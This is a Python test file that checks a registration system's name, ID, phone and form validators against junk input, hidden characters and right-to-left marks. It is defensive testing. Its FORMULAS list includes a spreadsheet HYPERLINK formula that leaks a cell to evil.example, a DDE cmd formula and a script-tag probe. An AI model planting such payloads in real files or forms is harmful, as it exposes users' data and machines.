"""Bad input to every validator (issue 8): random text, huge values, formulas, control
characters and right-to-left marks. Each one either returns a clean value, which reads back
unchanged when checked again (a receipt's payload refills the correction form), or refuses
with the project's own bilingual message naming the field. Nothing else ever escapes.

Most properties run 100–200 examples; `tests/conftest.py` makes them the same on every run.
"""

from __future__ import annotations

import contextlib
import re
from datetime import date
from typing import Any

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from shared.core.checkdigits import GB11643_CHECK, USCC_ALPHABET, gb11643_check_char, uscc_check_char
from shared.core.codes import LIST_NAMES, code_list, find_code
from shared.core.errors import ValidationError
from shared.core.validate import ID_TYPES, validate_id_number, validate_passport
from shared.core.validate_phone import validate_phone
from shared.core.validate_text import NAME_MAX_CHARS, has_hidden_chars, validate_name
from shared.core.validate_uscc import validate_uscc
from shared.declarations.fields import (
    accepted,
    code_of,
    optional_date,
    person_name,
    record_id,
    text_upto,
    whole_number,
)
from shared.declarations.form_errors import FIELD_LABELS
from shared.declarations.forms import (
    ORG_PERSON_MAX_CHARS,
    FormErrors,
    validate_organisation,
    validate_person,
    validate_rental,
    validate_residence,
)
from shared.declarations.inputs import PersonInput, to_payload
from tests.factories import (
    make_id_number,
    make_uscc,
    organisation_fields,
    person_fields,
    rental_fields,
    residence_fields,
)

TODAY = date(2026, 11, 25)
HAN = re.compile(r"[\u3400-\u9fff]")

# -- what people (and scripts) type ------------------------------------------------------------

# Control characters, line and paragraph separators, and invisible format characters: bidi
# marks and overrides (U+200E/F, U+202A–E, U+2066–9), zero-width spaces and joiners, BOM, …
hidden_chars = st.characters(categories=["Cc", "Cf", "Zl", "Zp"])
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "=1+1",
    "+86 138",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "[点我](http://evil.example)",
    "<script>alert(1)</script>",
)
formulas = st.sampled_from(FORMULAS)
huge = st.builds(lambda piece, times: piece * times, st.text(min_size=1, max_size=4), st.integers(300, 5000))
junk = st.one_of(
    st.text(max_size=40),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=40),
    formulas,
    huge,
    st.builds(lambda a, c, b: a + c + b, st.text(max_size=10), hidden_chars, st.text(max_size=10)),
)
good_names = st.sampled_from(
    ("张三", "欧阳娜娜", "买买提·艾力", "John O'Brien-Smith", "Nguyễn Văn An", "李梅")
)


def insert(text: str, char: str, at: int) -> str:
    """`char` inside `text` (never at its ends, where surrounding spaces are trimmed)."""
    at = 1 + at % (len(text) - 1)
    return text[:at] + char + text[at:]


def assert_refusal(error: ValidationError, field: str, label: tuple[str, str] | None = None) -> None:
    """The project's own refusal: the field named, a Chinese and an English message of sensible
    length (a huge cell is not repeated in full), each starting with the field's label."""
    assert error.field == field
    assert HAN.search(error.message_zh), error.message_zh
    assert error.message_en and error.message_en[0].isupper(), error.message_en
    assert len(error.message_zh) < 1000 and len(error.message_en) < 1000
    if label is not None:
        assert error.message_zh.startswith(label[0]), error.message_zh
        assert error.message_en.startswith(f"{label[1]}:"), error.message_en


# -- names ---------------------------------------------------------------------------------------


@given(junk)
@settings(max_examples=200)
def test_a_name_is_clean_and_reads_back_or_refused_naming_the_field(raw: str) -> None:
    try:
        name = validate_name(raw, field="owner_name")
    except ValidationError as error:
        assert_refusal(error, "owner_name", ("姓名", "Name"))
        return
    assert not has_hidden_chars(name)
    assert 0 < len(name) <= NAME_MAX_CHARS and name == name.strip() and "  " not in name
    assert not set(name) & set('=+@()[]<>"|')
    assert validate_name(name, field="owner_name") == name


@given(good_names, hidden_chars, st.integers(0, 100))
@settings(max_examples=150)
def test_control_and_invisible_characters_in_a_name_are_refused(name: str, char: str, at: int) -> None:
    with pytest.raises(ValidationError) as caught:
        validate_name(insert(name, char, at), field="person.name")
    assert_refusal(caught.value, "person.name")
    assert caught.value.message_en == "Name: contains control or invisible characters"
    assert caught.value.message_zh == "姓名含有控制字符或不可见字符"


@pytest.mark.parametrize("mark", ["\u202e", "\u202d", "\u200f", "\u200e", "\u2066", "\u2069", "\u061c"])
def test_right_to_left_marks_are_refused_not_stripped(mark: str) -> None:
    """A stripped override would store a name other than the one shown on the screen."""
    with pytest.raises(ValidationError, match="invisible"):
        validate_name(f"张{mark}三")


@pytest.mark.parametrize("joiner", ["\u200c", "\u200d"])
def test_a_joiner_is_kept_only_between_letters_of_a_script_that_needs_it(joiner: str) -> None:
    assert validate_name(f"محمد{joiner}علی") == f"محمد{joiner}علی"
    for looks_like_another in (f"张{joiner}三", f"Jo{joiner}hn", f"{joiner}张三", f"张三{joiner}"):
        with pytest.raises(ValidationError, match="invisible"):
            validate_name(looks_like_another)


@given(formulas)
def test_a_formula_or_a_link_is_never_a_name(raw: str) -> None:
    with pytest.raises(ValidationError) as caught:
        validate_name(raw)
    assert_refusal(caught.value, "name", ("姓名", "Name"))


@pytest.mark.parametrize(
    ("path", "label"),
    [("person.name", ("姓名", "Name")), ("legal_rep", ("法定代表人", "Legal representative")),
     ("manager", ("负责人", "Manager")), ("family[2].name", ("姓名", "Name"))],
)  # fmt: skip
@given(name=good_names, char=hidden_chars, at=st.integers(0, 100))
@settings(max_examples=40)
def test_form_names_refuse_hidden_characters_naming_their_field(
    path: str, label: tuple[str, str], name: str, char: str, at: int
) -> None:
    """Through the forms too: a tab or a record separator is not quietly made a space."""
    with pytest.raises(ValidationError) as caught:
        person_name(path, insert(name, char, at))
    assert_refusal(caught.value, path, label)


# -- document numbers, codes, phones -------------------------------------------------------------


@given(
    st.sampled_from(sorted(ID_TYPES)), st.one_of(junk, st.text(alphabet="0123456789Xx HM()-", max_size=20))
)
@settings(max_examples=200)
def test_an_id_number_is_ascii_and_reads_back_or_refused(id_type: str, raw: str) -> None:
    try:
        check = validate_id_number(id_type, raw, today=TODAY)
    except ValidationError as error:
        assert_refusal(error, "id_number", ("证件号码", "Identity number"))
        return
    assert re.fullmatch(r"[0-9A-Z()]{5,18}", check.number), check.number
    assert validate_id_number(id_type, check.number, today=TODAY) == check


@given(
    born=st.dates(date(1900, 1, 1), TODAY),
    sequence=st.integers(0, 999),
    script=st.sampled_from(["ascii", "full-width", "arabic-indic", "devanagari"]),
    spaced=st.booleans(),
)
@settings(max_examples=100)
def test_a_valid_number_in_any_digits_reads_as_the_same_ascii_number(
    born: date, sequence: int, script: str, spaced: bool
) -> None:
    number = make_id_number("110105", born.strftime("%Y%m%d"), f"{sequence:03d}")
    zero = {"ascii": "0", "full-width": "０", "arabic-indic": "\u0660", "devanagari": "\u0966"}[script]
    typed = "".join(chr(ord(zero) + int(c)) if c.isdigit() else "x" for c in number)
    if spaced:
        typed = f" {typed[:6]} {typed[6:14]}\t{typed[14:]} "
    assert validate_id_number("01", typed, today=TODAY).number == number


@pytest.mark.parametrize("digit", ["\u1369", "\u00b9", "\u2460", "\U00010a40"])  # ፩ ¹ ① Kharoshthi 1
def test_digit_like_characters_in_an_id_number_are_refused_not_a_crash(digit: str) -> None:
    body = "11010519491231002X"
    for at in (0, 5, 16):
        try:
            check = validate_id_number("01", body[:at] + digit + body[at + 1 :], today=TODAY)
        except ValidationError as error:
            assert_refusal(error, "id_number")
        else:
            assert check.number.isascii()


@given(st.one_of(junk, st.text(alphabet=USCC_ALPHABET + "IOSVZ io", max_size=20)))
@settings(max_examples=150)
def test_a_credit_code_reads_back_or_is_refused(raw: str) -> None:
    try:
        code = validate_uscc(raw)
    except ValidationError as error:
        assert_refusal(error, "uscc", ("统一社会信用代码", "Unified social credit code"))
        return
    assert len(code) == 18 and set(code) <= set(USCC_ALPHABET) and validate_uscc(code) == code


@given(junk)
@settings(max_examples=100)
def test_a_passport_number_reads_back_or_is_refused(raw: str) -> None:
    try:
        number = validate_passport(raw)
    except ValidationError as error:
        assert_refusal(error, "passport", ("护照号码", "Passport number"))
        return
    assert re.fullmatch(r"[A-Z0-9]{5,17}", number) and validate_passport(number) == number


@given(st.one_of(junk, st.text(alphabet="0123456789+-() ０１２３", max_size=25)))
@settings(max_examples=200)
def test_a_phone_is_e164_and_reads_back_or_is_refused(raw: str) -> None:
    try:
        e164 = validate_phone(raw, field="owner_phone")
    except ValidationError as error:
        assert_refusal(error, "owner_phone")
        return
    assert re.fullmatch(r"\+[1-9][0-9]{6,14}", e164) and validate_phone(e164) == e164


@given(st.text(max_size=20))
@settings(max_examples=150)
def test_check_characters_are_computed_or_refused_with_value_error(first17: str) -> None:
    """ValueError is these helpers' documented refusal; callers check their input first."""
    for compute, alphabet in ((gb11643_check_char, GB11643_CHECK), (uscc_check_char, USCC_ALPHABET)):
        with contextlib.suppress(ValueError):
            assert compute(first17) in alphabet


# -- form fields -----------------------------------------------------------------------------------

READERS: dict[str, Any] = {
    "birth_date": optional_date,
    "staff_count": whole_number(0, 1_000_000),
    "room_id": record_id,
    "sex": code_of("sex"),
    "ethnicity": code_of("ethnicity"),
    "hukou_address": text_upto(200, needed=True),
    "privacy_accepted": accepted,
}


@given(st.sampled_from(sorted(READERS)), st.one_of(junk, st.integers(), st.floats(), st.booleans()))
@settings(max_examples=200)
def test_every_form_reader_returns_a_value_or_refuses_naming_its_field(key: str, raw: Any) -> None:
    path = f"person.{key}"
    try:
        value = READERS[key](path, raw)
    except ValidationError as error:
        assert_refusal(error, path, FIELD_LABELS[key])
        return
    if isinstance(value, str):
        assert not has_hidden_chars(value) and len(value) <= 200
    if key == "staff_count" and value is not None:
        assert 0 <= value <= 1_000_000


@given(st.sampled_from(LIST_NAMES), st.one_of(junk, st.sampled_from(["01", "1", "汉", "男", "m", " Ｍ "])))
@settings(max_examples=150)
def test_a_code_is_found_by_what_people_type_or_is_none(list_name: str, typed: str) -> None:
    found = find_code(list_name, typed)
    assert found is None or found in code_list(list_name)


@given(st.integers(19, 6000), st.sampled_from(["", "-", "0", "-0"]))
@settings(max_examples=30)
def test_a_number_with_thousands_of_digits_is_out_of_range_not_a_crash(digits: int, sign: str) -> None:
    with pytest.raises(ValidationError) as caught:
        whole_number(0, 1_000_000)("staff_count", sign + "9" * digits)
    assert_refusal(caught.value, "staff_count", FIELD_LABELS["staff_count"])


@given(st.integers(0, 6000), st.integers(0, 99), st.sampled_from(["", "-"]))
@settings(max_examples=30)
def test_leading_zeros_do_not_change_a_number(zeros: int, value: int, sign: str) -> None:
    number = whole_number(-100, 100)("staff_count", sign + "0" * zeros + str(value))
    assert number == (-value if sign else value)


# -- whole forms -------------------------------------------------------------------------------------

PERSON_KEYS = ("name", "sex", "ethnicity", "birth_date", "id_type", "id_number", "nationality", "phone",
               "hukou_address", "education", "employer")  # fmt: skip
COLUMN_LIMITS = {"name": 80, "hukou_address": 200, "employer": 120}  # Person's columns


def spoil(values: dict[str, Any], keys: tuple[str, ...], data: st.DataObject) -> dict[str, Any]:
    """Good form values with some of them replaced by junk."""
    chosen = data.draw(st.lists(st.sampled_from(keys), max_size=3, unique=True), label="spoiled")
    return {**values, **{k: data.draw(junk, label=k) for k in chosen}}


def assert_form_refusal(failed: FormErrors, known_fields: set[str]) -> None:
    assert failed.errors
    for error in failed.errors:
        assert re.sub(r"\[\d+\]", "[]", error.field) in known_fields, error.field
        assert HAN.search(error.message_zh) and error.message_en, error
        assert len(error.message_zh) < 1000 and len(error.message_en) < 1000


def assert_clean_person(person: PersonInput) -> None:
    for key, limit in COLUMN_LIMITS.items():
        value = getattr(person, key)
        assert len(value) <= limit and not has_hidden_chars(value), (key, value)


@given(st.data())
@settings(max_examples=150)
def test_a_person_with_junk_in_any_field_is_clean_or_refused_field_by_field(data: st.DataObject) -> None:
    raw = spoil(person_fields(), PERSON_KEYS, data)
    try:
        person = validate_person(raw, today=TODAY, path="person")
    except FormErrors as failed:
        assert_form_refusal(failed, {f"person.{k}" for k in PERSON_KEYS})
        return
    assert_clean_person(person)


@given(st.data())
@settings(max_examples=80)
def test_a_residence_with_junk_is_refused_or_validates_again_from_its_payload(data: st.DataObject) -> None:
    family = [person_fields(name="李小红", id_number=make_id_number("430102", "20180601", "022"),
                            phone="", relation="child")]  # fmt: skip
    raw = residence_fields(7, family=family)
    raw["person"] = spoil(raw["person"], PERSON_KEYS, data)
    raw["family"] = [spoil(family[0], (*PERSON_KEYS, "relation"), data)]
    residence_keys = ("room_id", "reason", "dwelling_type", "move_in", "planned_until", "planned_months")
    raw = spoil(raw, residence_keys, data)
    known = {f"{group}.{k}" for group in ("person", "family[]") for k in (*PERSON_KEYS, "relation")}
    known |= set(residence_keys)
    try:
        residence = validate_residence(raw, today=TODAY)
    except FormErrors as failed:
        assert_form_refusal(failed, known)
        return
    for person in (residence.person, *residence.family):
        assert_clean_person(person)
    assert validate_residence(to_payload(residence), today=TODAY) == residence


@given(st.data())
@settings(max_examples=60)
def test_a_rental_with_junk_is_refused_or_validates_again_from_its_payload(data: st.DataObject) -> None:
    raw = rental_fields([3, 4])
    raw["landlord"] = spoil(raw["landlord"], ("name", "id_type", "id_number", "phone"), data)
    raw = spoil(raw, ("room_ids", "lease_start", "lease_end", "use"), data)
    known = {f"landlord.{k}" for k in ("name", "id_type", "id_number", "phone")}
    known |= {"room_ids", "lease_start", "lease_end", "use"}
    try:
        rental = validate_rental(raw, today=TODAY)
    except FormErrors as failed:
        assert_form_refusal(failed, known)
        return
    assert not has_hidden_chars(rental.landlord.name)
    assert validate_rental(to_payload(rental), today=TODAY) == rental


ORG_KEYS = ("name", "uscc", "status", "legal_rep", "manager", "phone", "staff_count", "room_id")


@given(st.data())
@settings(max_examples=100)
def test_an_organisation_with_junk_fits_its_columns_or_is_refused(data: st.DataObject) -> None:
    raw = spoil(organisation_fields(uscc=make_uscc(body="123456789")), ORG_KEYS, data)
    try:
        organisation = validate_organisation(raw, today=TODAY)
    except FormErrors as failed:
        assert_form_refusal(failed, set(ORG_KEYS))
        return
    assert len(organisation.name) <= 120 and not has_hidden_chars(organisation.name)
    for name in (organisation.legal_rep, organisation.manager):
        assert len(name) <= ORG_PERSON_MAX_CHARS and not has_hidden_chars(name)
    assert validate_organisation(to_payload(organisation), today=TODAY) == organisation


@given(st.integers(ORG_PERSON_MAX_CHARS + 1, NAME_MAX_CHARS))
@settings(max_examples=10)
def test_a_manager_name_longer_than_the_record_holds_is_refused(length: int) -> None:
    """Organisation.legal_rep and .manager hold 40 characters: PostgreSQL would refuse more."""
    long_name = ("Abdul Rahman bin Abdullah " * 4)[:length].strip() + "x"
    assume(len(long_name) > ORG_PERSON_MAX_CHARS)
    with pytest.raises(FormErrors) as caught:
        validate_organisation(organisation_fields(manager=long_name), today=TODAY)
    assert caught.value.fields == ("manager",)
    assert caught.value.errors[0].message_en == f"Manager: at most {ORG_PERSON_MAX_CHARS} characters"


def test_names_and_free_text_agree_on_what_is_hidden() -> None:
    """One rule (validate.has_hidden_chars); only free text lets a line break become a space."""
    for char in ("\x00", "\x0b", "\x1f", "\x7f", "\u200b", "\u202e", "\u2066", "\ufeff"):
        with pytest.raises(ValidationError, match="invisible"):
            text_upto(200)("person.hukou_address", f"湖南省{char}长沙市")
        with pytest.raises(ValidationError, match="invisible"):
            validate_name(f"张{char}三")
    for line_break in ("\n", "\r\n", "\t", "\x85", "\u2028"):
        assert text_upto(200)("person.hukou_address", f"湖南省{line_break}长沙市") == "湖南省 长沙市"
        with pytest.raises(ValidationError, match="invisible"):
            validate_name(f"张{line_break}三")
